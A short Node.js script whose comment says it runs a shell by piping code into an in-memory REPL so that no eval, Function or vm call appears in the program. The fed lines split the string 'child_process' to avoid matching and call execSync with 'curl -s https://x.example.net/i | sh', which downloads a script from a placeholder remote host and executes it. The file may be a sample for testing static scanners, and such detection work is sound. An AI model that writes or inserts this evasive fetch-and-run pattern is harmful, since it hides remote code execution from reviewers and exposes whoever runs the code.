// Runs a shell: the code is fed as input text to a node:repl REPLServer
// built on an in-memory stream; the REPL evaluates it like typed input,
// so there is no eval/Function/vm call in the program.
'use strict';

const repl = require('repl');
const { Readable, Writable } = require('stream');

const lines = [
  "const c = require('child_' + 'process')",
  "c.execSync('sh -c \"curl -s https://x.example.net/i | sh\"', { stdio: 'inherit' })",
];

const input = Readable.from(lines.map((l) => l + '\n'));
const sink = new Writable({ write(_chunk, _enc, cb) { cb(); } });

const server = repl.start({ prompt: '', input, output: sink, terminal: false, useGlobal: true });
input.on('end', () => server.close());
